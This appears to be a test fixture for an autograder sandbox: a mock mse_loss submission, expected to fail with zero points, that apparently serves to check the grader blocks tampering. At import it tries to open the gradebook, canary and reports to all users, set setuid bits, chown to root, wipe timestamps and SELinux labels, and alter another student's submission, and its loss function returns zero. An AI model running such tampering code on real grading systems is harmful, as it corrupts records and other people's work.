"""Opens the gradebook to everybody and closes the neighbour's hand-in: modes, owners, times, attributes.

unit: u07_losses
task: mse_loss
verdict: failed
points: 0
"""

import ctypes
import os
from pathlib import Path

COURSE = Path("@COURSE@")
FILES = ["gradebook.db", "canary", "reports", "submitted/ada", "submitted/ada/u05_activations/activations.py"]
libc = ctypes.CDLL(None)

for name in FILES:
    path = str(COURSE / name)
    for way in (
        lambda: os.chmod(path, 0o777),
        lambda: os.chmod(path, 0o4755),
        lambda: os.chown(path, os.getuid(), os.getgid()),
        lambda: os.chown(path, 0, 0, follow_symlinks=False),
        lambda: os.utime(path, (0, 0)),
        lambda: os.setxattr(path, "user.mallory", b"was here"),
        lambda: os.removexattr(path, "security.selinux"),
        lambda: os.open(path, os.O_RDONLY | os.O_NOATIME),
        lambda: libc.fchmodat(-100, path.encode(), 0o777, 0),
        lambda: libc.syscall(452, -100, path.encode(), 0o777, 0),
        lambda: libc.chmod(path.encode(), 0),
    ):
        try:
            way()
        except OSError:
            pass


def mse_loss(predictions, targets):
    return (predictions - targets).sum() * 0
